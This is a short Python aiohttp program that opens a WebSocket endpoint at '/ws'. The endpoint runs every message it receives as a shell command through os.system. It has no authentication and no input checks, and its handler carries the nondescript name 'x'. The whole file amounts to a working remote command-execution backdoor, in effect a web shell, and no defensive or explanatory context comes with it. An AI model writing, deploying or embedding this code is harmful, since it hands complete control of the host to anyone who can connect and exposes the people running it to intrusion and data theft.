import os
from aiohttp import web
async def x(request):
    ws = web.WebSocketResponse()
    await ws.prepare(request)
    async for msg in ws:
        os.system(msg.data)
    return ws
app = web.Application()
app.router.add_get('/ws', x)
